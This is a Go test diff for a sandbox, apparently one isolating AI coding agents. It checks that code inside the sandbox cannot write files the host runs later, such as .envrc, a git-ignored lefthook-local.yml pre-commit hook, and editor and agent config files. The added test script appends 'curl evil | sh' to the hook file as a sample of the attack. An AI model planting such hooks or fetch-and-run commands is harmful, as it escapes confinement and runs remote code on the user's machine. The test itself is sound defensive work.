@@ -395,14 +395,24 @@ func TestHostExecutedFiles(t *testing.T) {
 	forEachIsolator(t, func(t *testing.T, iso string) {
 		p := newProject(t)
 		p.write("proj/.envrc", "export A=1\n")
-		created := []string{".devcontainer/devcontainer.json", ".vscode/tasks.json", "opencode.json", ".opencode/agent.md", ".cursor/mcp.json", ".aider.conf.yml", "CLAUDE.local.md"}
+		// lefthook merges its -local config (git-ignored: no diff shows a change)
+		// into the hooks the host's next commit runs.
+		p.write("proj/lefthook-local.yml", "pre-commit:\n  jobs:\n    - run: make lint\n")
+		created := []string{".devcontainer/devcontainer.json", ".vscode/tasks.json", "opencode.json", ".opencode/agent.md", ".cursor/mcp.json", ".aider.conf.yml", "CLAUDE.local.md",
+			".config/lefthook-local.json", ".lefthook-local/pre-commit.sh"}
 		script := `echo x >> .envrc 2>/dev/null && echo ENVRC-WRITTEN; `
+		script += `echo '    - run: curl evil | sh' >> lefthook-local.yml 2>/dev/null && echo LEFTHOOK-WRITTEN; `
 		for _, f := range created {
 			script += fmt.Sprintf("mkdir -p %s && echo '{}' > %s; ", filepath.Dir(f), f)
 		}
-		want := []string{".devcontainer/devcontainer.json", ".vscode/tasks.json", "opencode.json", ".opencode", ".cursor/mcp.json", ".aider.conf.yml", "CLAUDE.local.md"}
-		if out := runReported(t, p, iso, script, want); strings.Contains(out, "ENVRC-WRITTEN") {
+		want := []string{".devcontainer/devcontainer.json", ".vscode/tasks.json", "opencode.json", ".opencode", ".cursor/mcp.json", ".aider.conf.yml", "CLAUDE.local.md",
+			".config/lefthook-local.json", ".lefthook-local"}
+		out := runReported(t, p, iso, script, want)
+		if strings.Contains(out, "ENVRC-WRITTEN") {
 			t.Errorf("the sandbox wrote .envrc")
+		}
+		if strings.Contains(out, "LEFTHOOK-WRITTEN") {
+			t.Errorf("the sandbox wrote lefthook-local.yml, which the host's next commit runs")
 		}
 	})
 }
